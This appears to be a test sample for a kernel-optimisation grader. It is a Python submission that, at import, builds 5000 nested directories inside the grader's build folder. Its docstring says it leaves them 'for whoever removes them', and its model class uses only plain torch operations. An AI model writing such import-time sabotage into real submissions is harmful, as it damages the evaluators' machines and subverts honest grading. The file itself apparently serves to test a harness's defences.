"""Folders nested thousands deep in the build's directory, for whoever removes them.

task: gate
verdict: not_custom compile_error runtime_exception oom killed
"""

import contextlib
import os

import torch
import tvm_ffi.cpp
from torch import nn

place = getattr(tvm_ffi.cpp.load_inline, "args", (None, None))[1]
home = os.getcwd()
with contextlib.suppress(OSError, TypeError):
    os.chdir(place)
    for _ in range(5000):
        os.mkdir("d")
        os.chdir("d")
os.chdir(home)


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x) * 2 + x
